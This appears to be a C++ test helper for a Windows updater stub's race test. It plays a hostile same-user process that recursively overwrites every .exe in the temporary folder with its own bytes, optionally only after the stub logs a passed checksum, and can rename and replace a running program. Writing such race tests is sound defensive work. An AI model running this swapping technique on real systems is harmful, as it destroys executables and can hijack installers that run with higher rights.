// A hostile program of the same user, for the race test: it keeps overwriting every .exe it can
// under the temporary folder (recursively) with its own bytes, hoping that the stub starts one of
// them with its rights.
//
//   exe_swapper.exe --swap <stop file>   swaps until the stop file exists (at most 5 minutes);
//                                        prints how many files it overwrote
//   exe_swapper.exe --after-check <stop file>
//                                        the same, but only from the moment the stub's log
//                                        (%APPDATA%\Tavlin\ORVD.log) says the checksum is OK;
//                                        creates <stop file>.ready once it reads the log
//   exe_swapper.exe --replace <program> <other>
//                                        renames <program> away (to <program>-old.exe), copies
//                                        <other> to its name and prints "renamed <error>
//                                        copied <error>" (0: done), as a process of the user does
//                                        to a running program it can write
//   exe_swapper.exe <anything else>      it has been started in place of an installer (or through
//                                        an association): writes the file named by
//                                        ORV_SWAP_MARK and exits with code 99
#include <windows.h>

#include <cstdio>
#include <string>
#include <vector>

namespace {

constexpr DWORD kLongestSwapMs = 5 * 60 * 1000;
constexpr DWORD kSwappedExitCode = 99;

std::wstring Environment(const wchar_t* name) {
  const DWORD needed = GetEnvironmentVariableW(name, nullptr, 0);
  if (needed == 0) return {};
  std::wstring value(needed, L'\0');
  const DWORD written = GetEnvironmentVariableW(name, &value[0], needed);
  value.resize(written < needed ? written : 0);
  return value;
}

bool ReadOwnBytes(std::string& bytes) {
  wchar_t path[32768];
  const DWORD length = GetModuleFileNameW(nullptr, path, 32768);
  if (length == 0 || length >= 32768) return false;
  HANDLE file = CreateFileW(path, GENERIC_READ, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, nullptr,
                            OPEN_EXISTING, 0, nullptr);
  if (file == INVALID_HANDLE_VALUE) return false;
  char chunk[65536];
  DWORD read = 0;
  while (ReadFile(file, chunk, sizeof chunk, &read, nullptr) && read > 0) bytes.append(chunk, read);
  CloseHandle(file);
  return !bytes.empty();
}

bool EndsWithExe(const std::wstring& name) {
  if (name.size() < 4) return false;
  const std::wstring tail = name.substr(name.size() - 4);
  return CompareStringOrdinal(tail.c_str(), -1, L".exe", -1, TRUE) == CSTR_EQUAL;
}

// Overwrites path with bytes; true when every byte went in.
bool Overwrite(const std::wstring& path, const std::string& bytes) {
  HANDLE file = CreateFileW(path.c_str(), GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
                            nullptr, OPEN_EXISTING, 0, nullptr);
  if (file == INVALID_HANDLE_VALUE) return false;
  DWORD written = 0;
  const bool ok = WriteFile(file, bytes.data(), static_cast<DWORD>(bytes.size()), &written, nullptr) &&
                  written == bytes.size() && SetEndOfFile(file);
  CloseHandle(file);
  return ok;
}

// One sweep of folder and everything below it; counts the files overwritten.
void Sweep(const std::wstring& folder, const std::string& bytes, unsigned long& swapped) {
  WIN32_FIND_DATAW found;
  HANDLE search = FindFirstFileW((folder + L"*").c_str(), &found);
  if (search == INVALID_HANDLE_VALUE) return;
  std::vector<std::wstring> folders;
  do {
    const std::wstring name = found.cFileName;
    if (name == L"." || name == L"..") continue;
    if (found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) {
      folders.push_back(folder + name + L"\\");
    } else if (EndsWithExe(name) && Overwrite(folder + name, bytes)) {
      ++swapped;
    }
  } while (FindNextFileW(search, &found));
  FindClose(search);
  for (const std::wstring& below : folders) Sweep(below, bytes, swapped);
}

// The stub's log, or "" when it cannot be read.
std::string ReadLog() {
  const std::wstring path = Environment(L"APPDATA") + L"\\Tavlin\\ORVD.log";
  HANDLE file = CreateFileW(path.c_str(), GENERIC_READ, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
                            nullptr, OPEN_EXISTING, 0, nullptr);
  if (file == INVALID_HANDLE_VALUE) return {};
  std::string text;
  char chunk[65536];
  DWORD read = 0;
  while (ReadFile(file, chunk, sizeof chunk, &read, nullptr) && read > 0) text.append(chunk, read);
  CloseHandle(file);
  return text;
}

int Swap(const std::wstring& stopFile, bool afterCheck) {
  std::string bytes;
  wchar_t temp[MAX_PATH + 1];
  const DWORD length = GetTempPathW(MAX_PATH + 1, temp);
  if (!ReadOwnBytes(bytes) || length == 0 || length > MAX_PATH) {
    std::fprintf(stderr, "exe_swapper: cannot read itself or find the temporary folder\n");
    return 1;
  }
  unsigned long swapped = 0;
  const DWORD started = GetTickCount();
  // Only what the stub writes after this start counts.
  const size_t logStart = afterCheck ? ReadLog().size() : 0;
  if (afterCheck) {
    HANDLE ready = CreateFileW((stopFile + L".ready").c_str(), GENERIC_WRITE, 0, nullptr, CREATE_ALWAYS, 0, nullptr);
    if (ready != INVALID_HANDLE_VALUE) CloseHandle(ready);
  }
  bool checked = !afterCheck;
  while (GetFileAttributesW(stopFile.c_str()) == INVALID_FILE_ATTRIBUTES && GetTickCount() - started < kLongestSwapMs) {
    if (!checked) {
      const std::string log = ReadLog();
      checked = log.size() > logStart && log.find("Checksum is OK", logStart) != std::string::npos;
      continue;
    }
    Sweep(temp, bytes, swapped);
  }
  std::printf("%lu\n", swapped);
  return 0;
}

}  // namespace

int Replace(const std::wstring& program, const std::wstring& other) {
  const std::wstring old = program + L"-old.exe";
  const DWORD renamed = MoveFileW(program.c_str(), old.c_str()) ? 0 : GetLastError();
  const DWORD copied = CopyFileW(other.c_str(), program.c_str(), FALSE) ? 0 : GetLastError();
  std::printf("renamed %lu copied %lu\n", static_cast<unsigned long>(renamed), static_cast<unsigned long>(copied));
  return 0;
}

int wmain(int argc, wchar_t** argv) {
  if (argc == 4 && std::wstring(argv[1]) == L"--replace") return Replace(argv[2], argv[3]);
  if (argc == 3 && std::wstring(argv[1]) == L"--swap") return Swap(argv[2], false);
  if (argc == 3 && std::wstring(argv[1]) == L"--after-check") return Swap(argv[2], true);
  const std::wstring mark = Environment(L"ORV_SWAP_MARK");
  if (!mark.empty()) {
    HANDLE file = CreateFileW(mark.c_str(), GENERIC_WRITE, 0, nullptr, CREATE_ALWAYS, 0, nullptr);
    if (file != INVALID_HANDLE_VALUE) CloseHandle(file);
  }
  return static_cast<int>(kSwappedExitCode);
}
